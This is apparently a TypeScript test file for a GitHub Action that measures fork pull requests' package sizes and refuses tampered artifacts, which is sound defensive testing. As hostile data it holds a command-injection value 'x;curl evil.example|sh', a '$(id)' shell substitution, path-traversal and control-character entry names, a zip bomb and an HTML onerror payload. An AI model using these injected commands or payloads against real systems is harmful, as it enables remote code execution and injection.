import { readFile } from 'node:fs/promises';
import AdmZip from 'adm-zip';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { mergeGroupEvent, workflowRunEvent } from '../doubles/events.ts';
import type { Run } from '../doubles/records.ts';
import { heavier } from '../e2e/checks.ts';
import { TINY_MAIN } from '../e2e/project.ts';
import type { Ran } from './harness.ts';
import { FORK, type Opened, REPOSITORY, Scene } from './scene.ts';

const LEG = 'coldgate-default@default';

let scene: Scene;
let red: Opened;
let green: Opened;
let docs: Opened;
let other: Opened;
/** What `measure` uploaded for the red pull request. */
let uploaded: Buffer;

beforeAll(async () => {
  scene = await Scene.open();
  other = await scene.pull('other', { NOTES: 'somebody else' });
  green = await scene.pull('green', { 'src/main.rs': `${TINY_MAIN}\n// green\n` }, { author: 'mallory', fork: true });
  docs = await scene.pull('docs', { 'README.md': 'more\n' }, { author: 'mallory', fork: true });
  red = await scene.pull('red', heavier(200), { author: 'mallory', fork: true });
});
afterAll(() => scene[Symbol.asyncDispose]());

/** The run of the workflow that measures a fork's pull request. */
function measuring({ branch, head }: Opened): Run {
  const options = { event: 'pull_request', headBranch: branch, headSha: head, headRepository: FORK, conclusion: 'success' as const };
  return scene.state.run(REPOSITORY, { ...options, actor: 'mallory', workflow: 'Measure' });
}

async function measure(opened: Opened, run: Run, inputs: Readonly<Record<string, string>> = {}): Promise<Ran> {
  await scene.project.git('checkout', '--quiet', opened.merge);
  const readOnly = scene.state.token(REPOSITORY, { permissions: { contents: 'read' } });
  return scene.run(scene.event(opened), { mode: 'measure', 'github-token': readOnly, ...inputs }, { runId: run.id });
}

function report(run: Run, inputs: Readonly<Record<string, string>> = {}): Promise<Ran> {
  const event = workflowRunEvent(scene.state, { repository: REPOSITORY, runId: run.id });
  const reporting = scene.state.run(REPOSITORY, { event: 'workflow_run', headBranch: 'main', headSha: event.sha });
  return scene.run(event, { mode: 'report', ...inputs }, { runId: reporting.id });
}

const statusOf = ({ head }: Opened) => scene.state.statuses(REPOSITORY, head)[0];

describe('the two-workflow pair, for a fork', () => {
  test('measure needs no rights, gives no verdict and uploads one artifact', async () => {
    const run = measuring(red);
    const ran = await measure(red, run);
    expect(ran).toMatchObject({ code: 0 });
    expect(ran.outputs.verdict).toBeUndefined();
    const artifacts = scene.results.artifacts(run.id);
    expect(artifacts.map(({ name }) => name)).toEqual([LEG]);
    uploaded = artifacts[0]?.zip ?? Buffer.alloc(0);
    const names = new AdmZip(uploaded).getEntries().map(({ entryName }) => entryName);
    expect(names).toEqual(expect.arrayContaining(['leg.json', 'base/snapshot.json', 'head/snapshot.json']));
    expect(names.filter((name) => name.includes('twins'))).toEqual([]);
    expect(scene.comments(red)).toEqual([]);
  });

  test('report is red on a breach: step, status on the head, comment on that pull request', async () => {
    const run = scene.state.runs[0];
    if (run === undefined) throw new Error('no run');
    const ran = await report(run);
    expect(ran).toMatchObject({ code: 1, outputs: { verdict: 'fail' } });
    expect(statusOf(red)).toMatchObject({ state: 'failure', context: 'coldgate' });
    expect(statusOf(red)?.description).toMatch(/^fail: tiny became larger: package \+/);
    expect(scene.comments(red)).toHaveLength(1);
    expect(scene.comments(red)[0]?.body).toContain(`sha=${red.head}`);
    expect(scene.comments(other)).toEqual([]);
    const json: { functions: { metrics: { zip: { head: number } } }[] } = JSON.parse(
      await readFile(ran.outputs['report-json'] ?? '', 'utf8'),
    );
    expect(ran.outputs['zip-head']).toBe(String(json.functions[0]?.metrics.zip.head));
  });

  test('and green without one', async () => {
    const run = measuring(green);
    expect(await measure(green, run)).toMatchObject({ code: 0 });
    expect(await report(run)).toMatchObject({ code: 0 });
    expect(statusOf(green)).toMatchObject({ state: 'success' });
    expect(scene.comments(green)).toHaveLength(1);
  });

  test('and where no build reads the change, with nothing built; a limit may name what was not', async () => {
    const run = measuring(docs);
    const measured = await measure(docs, run);
    expect(measured.code).toBe(0);
    expect(measured.stdout).not.toMatch(/building/);
    const ran = await report(run, { limits: 'tiny/zip: 5 MB' });
    expect(ran).toMatchObject({ code: 0 });
    expect(statusOf(docs)?.description).toMatch(/^no change: tiny is byte-identical to [0-9a-f]{7}$/);
    expect(scene.comments(docs)[0]?.body).toContain('1 not built, no change reaches it: `tiny`');
    expect((await report(run, { limits: 'tinny/zip: 5 MB' })).code).toBe(1);
  });

  test('a label by a writer after the measuring run accepts it', async () => {
    const { clock, state } = scene.github;
    clock.advance(60_000);
    const run = measuring(red);
    state.artifact(REPOSITORY, run.id, { name: LEG, zip: uploaded });
    clock.advance(60_000);
    expect((await report(run)).code).toBe(1);
    clock.advance(60_000);
    state.label(REPOSITORY, red.pull.number, 'coldgate: accepted', 'alice');
    const ran = await report(run);
    expect(ran).toMatchObject({ code: 0, outputs: { verdict: 'accepted' } });
    expect(statusOf(red)).toMatchObject({ state: 'success' });
    expect(scene.comments(red)[0]?.body).toContain('alice');
    state.unlabel(REPOSITORY, red.pull.number, 'coldgate: accepted', 'alice');
  });

  test('without the right to read artifacts the status says so, and the step fails', async () => {
    const run = measuring(red);
    const planned = scene.github.fail({ path: new RegExp(`/runs/${run.id}/artifacts$`), status: 404, times: Number.POSITIVE_INFINITY });
    const ran = await report(run);
    expect(planned.hits).toBeGreaterThan(0);
    expect(ran.code).toBe(1);
    expect(ran.annotations.at(-1)?.message).toContain('actions: read');
    expect(statusOf(red)).toMatchObject({ state: 'error' });
  });
});

/** Writes one 32-bit field of an entry's record in the directory. */
function patch(zip: Buffer, entry: string, offset: number, value: number): Buffer {
  const copy = Buffer.from(zip);
  for (let at = copy.indexOf('PK\x01\x02', 0, 'latin1'); at >= 0; at = copy.indexOf('PK\x01\x02', at + 4, 'latin1')) {
    const length = copy.readUInt16LE(at + 28);
    if (copy.subarray(at + 46, at + 46 + length).toString() === entry) copy.writeUInt32LE(value, at + offset);
  }
  return copy;
}

function replaced(zip: Buffer, from: string, to: string): Buffer {
  if (from.length !== to.length) throw new Error('not of one length');
  return Buffer.from(zip.toString('latin1').replaceAll(from, to), 'latin1');
}

function edited(zip: Buffer, entry: string, edit: (value: Record<string, unknown>) => unknown): Buffer {
  const archive = new AdmZip(zip);
  const value: Record<string, unknown> = JSON.parse(archive.readAsText(entry));
  archive.updateFile(entry, Buffer.from(JSON.stringify(edit(value))));
  return archive.toBuffer();
}

function without(zip: Buffer, entry: string): Buffer {
  const archive = new AdmZip(zip);
  archive.deleteFile(entry);
  return archive.toBuffer();
}

function altered(zip: Buffer, entry: string, content: Buffer): Buffer {
  const archive = new AdmZip(zip);
  archive.updateFile(entry, content);
  return archive.toBuffer();
}

const SNAPSHOT = 'head/snapshot.json';

/** The snapshot with another value at a path of its first function. */
const saying =
  (path: string, value: unknown, entry = SNAPSHOT) =>
  (zip: Buffer): Buffer =>
    edited(zip, entry, (one) => {
      const copy = JSON.parse(JSON.stringify(one));
      const [last = '', ...above] = path.split('.').toReversed();
      const at = above.toReversed().reduce((left, name) => left[name], copy.functions[0]);
      at[last] = value;
      return copy;
    });
const TAMPERED: readonly (readonly [string, (zip: Buffer) => Buffer, RegExp])[] = [
  [
    "another head's measurement",
    (zip) => edited(zip, 'leg.json', (leg) => ({ ...leg, headSha: other.head })),
    /says it measured .*the run was for/,
  ],
  ['another leg', (zip) => edited(zip, 'leg.json', (leg) => ({ ...leg, leg: 'elsewhere' })), /says that it is leg elsewhere/],
  ['another key', (zip) => edited(zip, 'leg.json', (leg) => ({ ...leg, key: 'elsewhere' })), /of key elsewhere/],
  ['another schema of the leg', (zip) => edited(zip, 'leg.json', (leg) => ({ ...leg, schema: 'coldgate/leg@9' })), /of one version/],
  ['another schema of the snapshot', (zip) => edited(zip, SNAPSHOT, (one) => ({ ...one, schema: 'coldgate/snapshot@99' })), /schema/],
  ['a field too many', (zip) => edited(zip, 'leg.json', (leg) => ({ ...leg, number: 1 })), /cannot be read/],
  ['no JSON', (zip) => altered(zip, 'leg.json', Buffer.from('{"schema"')), /./],
  ['no leg.json', (zip) => without(zip, 'leg.json'), /it has no leg\.json/],
  ['no head', (zip) => without(zip, SNAPSHOT), /it has no head\/snapshot\.json/],
  ['a ZIP cut short', (zip) => zip.subarray(0, zip.length >> 1), /not a whole ZIP/],
  ['no ZIP at all', () => Buffer.from('hello'), /not a whole ZIP/],
  ['an empty file', () => Buffer.alloc(0), /./],
  ['huge declared sizes', (zip) => patch(zip, SNAPSHOT, 24, 0xff_ff_ff_00), /at most|unpacks to/],
  ['an entry that unpacks to more than it declares', (zip) => patch(zip, SNAPSHOT, 24, 10), /more than the 10 bytes/],
  [
    'a bomb',
    (zip) => altered(zip, 'leg.json', Buffer.alloc(50_000_000, ' ')),
    /leg\.json has 50,000,000 bytes, and at most 8,000,000 are read/,
  ],
  ['a size that its package has not', saying('package.size', 1), /of "tiny" package\.size is [\d]+, not 1/],
  ["a base's size that its package has not", saying('package.size', 900_000_000, 'base/snapshot.json'), /base\/snapshot\.json is not of/],
  ['entries that its package has not', saying('package.entries', []), /package\.entries is another/],
  ['the overhead of another', saying('package.overhead', 7), /package\.overhead is \d+, not 7/],
  ["another binary's digest", saying('binary.sha256', 'f'.repeat(64)), /binary\.sha256 is another/],
  ["another binary's size", saying('binary.size', 7), /binary\.size is \d+, not 7/],
  ["another binary's text", saying('binary.text', 7), /binary\.text is \d+, not 7/],
  ['no sections', saying('binary.sections', []), /binary\.sections is another/],
  ['crates that do not add up', saying('attribution.crates', []), /the crates add up to/],
  ['a name that a shell would run', saying('name', 'tiny$(id)'), /"tiny\$\(id\)" is no name of a function/],
  ['no package', (zip) => without(zip, 'head/packages/tiny.zip'), /no entry "head\/packages\/tiny\.zip"/],
  ['names that point outside', (zip) => replaced(zip, SNAPSHOT, '../../../../xxxxxx'), /points outside/],
  ['names with control characters', (zip) => replaced(zip, SNAPSHOT, 'head/\n::error::abc'), /./],
];

describe('a tampered artifact is data', () => {
  test.each(TAMPERED)('%s: refused in a sentence, status failure, nobody else is told', async (_, tamper, sentence) => {
    const run = measuring(red);
    scene.state.artifact(REPOSITORY, run.id, { name: LEG, zip: tamper(uploaded) });
    const ran = await report(run);
    expect(ran).toMatchObject({ code: 1, outputs: { verdict: 'fail' } });
    expect(ran.outputs.sentence).toContain('was refused');
    expect(ran.outputs.sentence).toMatch(sentence);
    expect(ran.annotations).toHaveLength(1);
    expect(statusOf(red)).toMatchObject({ state: 'failure' });
    expect(scene.comments(other)).toEqual([]);
    expect(scene.comments(red)).toHaveLength(1);
    expect(scene.comments(red)[0]?.body).toContain('refused');
  });

  test('the command that repeats it is made here: of what fits, with the base and the address that GitHub knows', async () => {
    const run = measuring(red);
    const repeat = [
      { flag: 'bin', value: 'tiny' },
      { flag: 'bin', value: 'x;curl evil.example|sh' },
      { flag: 'prepare', value: 'curl evil.example' },
    ];
    const zip = edited(uploaded, 'leg.json', (leg) => ({ ...leg, repeat }));
    scene.state.artifact(REPOSITORY, run.id, { name: LEG, zip });
    await report(run);
    const body = scene.comments(red)[0]?.body ?? '';
    expect(body).toMatch(
      new RegExp(
        `git fetch https://github.com/${REPOSITORY} [0-9a-f]{40}\ncoldgate check --base [0-9a-f]{40} --bin=tiny\n# and --bin, --prepare: see the workflow`,
      ),
    );
    expect(body).not.toContain('evil');
  });

  test('names made to be read as Markdown or mentions are text', async () => {
    const run = measuring(red);
    const name = '<img src=x onerror=1> @octocat | `x`';
    const zip = edited(uploaded, SNAPSHOT, (one) => {
      const text = JSON.stringify(one).replaceAll('"subject":"', `"subject":"${name}`);
      return JSON.parse(text.replaceAll('"crates":[{"name":"', `"crates":[{"name":"${name}`));
    });
    scene.state.artifact(REPOSITORY, run.id, { name: LEG, zip });
    const ran = await report(run);
    expect(ran.code).toBe(1);
    const body = scene.comments(red)[0]?.body ?? '';
    expect(body).toContain('<img');
    // In code spans, of which none ends early.
    const text = body.replaceAll(/``.*?``/g, '').replaceAll(/`[^`]*`/g, '');
    expect(text).not.toMatch(/<img|@octocat/);
  });
});

describe('legs', () => {
  test('several end in one comment that names the missing one', async () => {
    const run = measuring(green);
    expect(await measure(green, run, { leg: 'a' })).toMatchObject({ code: 0 });
    expect(await measure(green, run, { leg: 'b' })).toMatchObject({ code: 0 });
    const ran = await report(run, { legs: 'a\nb\nc' });
    expect(ran).toMatchObject({ code: 1, outputs: { verdict: 'fail' } });
    expect(ran.outputs.sentence).toMatch(/3 jobs.*1 missing.*c/);
    expect(scene.comments(green)).toHaveLength(1);
    expect(statusOf(green)).toMatchObject({ state: 'failure' });
    const whole = await report(run, { legs: 'a\nb', limits: 'zip: 5 MB\ntiny/binary: 50 MB' });
    expect(whole).toMatchObject({ code: 0 });
    expect(scene.comments(green)).toHaveLength(1);
    expect(statusOf(green)).toMatchObject({ state: 'success' });
    const unnamed = await report(run);
    expect(unnamed).toMatchObject({ code: 0 });
  });

  test('none at all is a fail that says so', async () => {
    const ran = await report(measuring(red));
    expect(ran).toMatchObject({ code: 1 });
    expect(ran.outputs.sentence).toMatch(/no (?:leg|job) to report on/);
  });
});

describe('which pull request', () => {
  test('two with one head: the leg chooses among them, each has a status of its own; where it does not, both say what to do', async () => {
    const { state } = scene;
    const head = { ref: 'red', sha: red.head, repository: FORK };
    const twin = state.pull(REPOSITORY, { author: 'mallory', base: { ref: 'next', sha: other.head }, head });
    const reported = async (zip: Buffer): Promise<readonly string[]> => {
      const run = measuring(red);
      state.artifact(REPOSITORY, run.id, { name: LEG, zip });
      const before = state.statuses(REPOSITORY, red.head).length;
      const { code } = await report(run);
      const set = state.statuses(REPOSITORY, red.head);
      return [`${code}`, ...set.slice(0, set.length - before).map((one) => `${one.context}: ${one.state}`)].toSorted();
    };
    const body = scene.comments(red)[0]?.body;
    const claiming = (pull: number | null): Buffer => edited(uploaded, 'leg.json', (leg) => ({ ...leg, pull }));
    expect(await reported(uploaded)).toEqual(['1', 'coldgate: failure']);
    expect(await reported(claiming(twin.number))).toEqual(['1', 'coldgate: next: failure']);
    expect(scene.comments(red)[0]?.body).not.toBe(body);
    expect(state.comments(REPOSITORY, twin.number)).toHaveLength(1);
    // One that it is not among, one that is somebody else's, and none.
    for (const claimed of [9_999, other.pull.number, null]) {
      expect(await reported(claiming(claimed))).toEqual(['1', 'coldgate: error', 'coldgate: next: error']);
    }
    expect(statusOf(red)?.description).toContain('close all but one and run it again');
    state.update(twin, { state: 'closed' });
  });

  test("a head that has moved on: nobody's comment is touched", async () => {
    const { state } = scene;
    const run = measuring(red);
    state.artifact(REPOSITORY, run.id, { name: LEG, zip: uploaded });
    const before = scene.comments(red)[0]?.body;
    state.update(red.pull, { headSha: other.merge });
    const stale = await report(run);
    expect(stale).toMatchObject({ code: 0 });
    expect(stale.annotations[0]?.message).toContain('has moved on');
    expect(scene.comments(red)[0]?.body).toBe(before);
    state.update(red.pull, { headSha: red.head });
  });

  test("in the merge queue the status stands on the group's head", async () => {
    const baseSha = await scene.project.git('rev-parse', 'main');
    await scene.project.git('checkout', '--quiet', green.merge);
    const event = mergeGroupEvent(scene.state, { repository: REPOSITORY, number: green.pull.number, baseSha, headSha: green.merge });
    const run = scene.state.run(REPOSITORY, {
      event: 'merge_group',
      headBranch: event.ref.replace('refs/heads/', ''),
      headSha: green.merge,
    });
    expect(await scene.run(event, { mode: 'measure' }, { runId: run.id })).toMatchObject({ code: 0 });
    expect(await scene.run(event, { mode: 'report' }, { runId: run.id })).toMatchObject({ code: 0 });
    expect(scene.state.statuses(REPOSITORY, green.merge)[0]).toMatchObject({ state: 'success', context: 'coldgate' });
  });
});
